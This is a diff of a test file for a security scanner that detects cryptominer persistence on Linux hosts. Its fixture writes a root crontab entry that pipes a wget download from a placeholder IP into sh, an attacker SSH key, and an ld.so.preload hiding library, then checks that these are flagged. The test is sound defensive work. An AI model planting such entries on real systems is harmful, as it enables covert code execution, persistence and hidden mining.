@@ -1,4 +1,6 @@
 import { spawnSync } from 'node:child_process';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { BIN, REPO_ROOT, runCli } from '../helpers/cli.js';
 import { FakeRoot, tcp4Line } from '../helpers/fake-proc.js';
@@ -35,12 +37,13 @@ describe('scan command line', () => {
         .trim()
         .split('\n')
         .map((l) => JSON.parse(l) as { type: string; ruleId: string });
-      expect(lines.every((l) => l.type === 'finding')).toBe(true);
-      expect(lines.map((l) => l.ruleId).sort()).toEqual([
-        'miner.cmdline',
-        'net.miner-port',
-        'proc.exe.writable-path',
-      ]);
+      expect(lines.filter((l) => l.type === 'incident')).toHaveLength(1);
+      expect(
+        lines
+          .filter((l) => l.type === 'finding')
+          .map((l) => l.ruleId)
+          .sort(),
+      ).toEqual(['miner.cmdline', 'net.miner-port', 'proc.exe.writable-path']);
       const table = await runCli(['scan', '--root', fake.root, '--interval', '0']);
       expect(table.stdout).toContain('Host fakehost');
       expect(table.stdout).toContain('198.51.100.9:14444');
@@ -69,5 +72,58 @@ describe('scan command line', () => {
     const r = await runCli(['fields', '--format', 'json']);
     const fields = JSON.parse(r.stdout) as Array<{ name: string; sigma: string[] }>;
     expect(fields.find((f) => f.name === 'process.exe')?.sigma).toContain('Image');
+  });
+});
+
+describe('scan sweeps persistence under --root', () => {
+  it('finds a cron dropper, an attacker key and a preload, and ties the cron line to the running miner', async () => {
+    const fake = new FakeRoot()
+      .add({ pid: 1, comm: 'init', argv: ['/sbin/init'], exe: '/sbin/init' })
+      .add({
+        pid: 4000,
+        ppid: 1,
+        comm: 'kdevtmpfsi',
+        argv: ['/tmp/.k/kdevtmpfsi'],
+        exe: '/tmp/.k/kdevtmpfsi',
+      });
+    const plant = (path: string, content: string): void => {
+      mkdirSync(join(fake.root, path, '..'), { recursive: true });
+      writeFileSync(join(fake.root, path), content);
+    };
+    plant(
+      'var/spool/cron/crontabs/root',
+      '* * * * * wget -q -O - http://198.51.100.7/k.sh | sh\n@reboot /tmp/.k/kdevtmpfsi\n',
+    );
+    plant('root/.ssh/authorized_keys', 'ssh-rsa AAAAB3NzaC1yc2E mdrfckr\n');
+    plant('etc/ld.so.preload', '/usr/local/lib/libhide.so\n');
+    try {
+      const r = await runCli(['scan', '--root', fake.root, '--format', 'json', '--interval', '0']);
+      expect(r.code).toBe(1);
+      const out = JSON.parse(r.stdout) as {
+        findings: Array<{ ruleId: string; entity: { path?: string }; incidentId?: string }>;
+        incidents: Array<{ id: string; stages: string[] }>;
+      };
+      const rules = out.findings.map((f) => f.ruleId);
+      expect(rules).toEqual(
+        expect.arrayContaining([
+          'persist.download-exec',
+          'persist.exec-from-writable-path',
+          'persist.ssh.known-bad-key',
+          'evasion.ld-preload',
+          'proc.exe.writable-path',
+        ]),
+      );
+      const cron = out.findings.find((f) => f.ruleId === 'persist.exec-from-writable-path');
+      const proc = out.findings.find((f) => f.ruleId === 'proc.exe.writable-path');
+      expect(cron?.incidentId).toBeDefined();
+      expect(cron?.incidentId).toBe(proc?.incidentId);
+      expect(out.incidents.find((i) => i.id === cron?.incidentId)?.stages).toEqual([
+        'execution',
+        'persistence',
+        'defense-evasion',
+      ]);
+    } finally {
+      fake.cleanup();
+    }
   });
 });
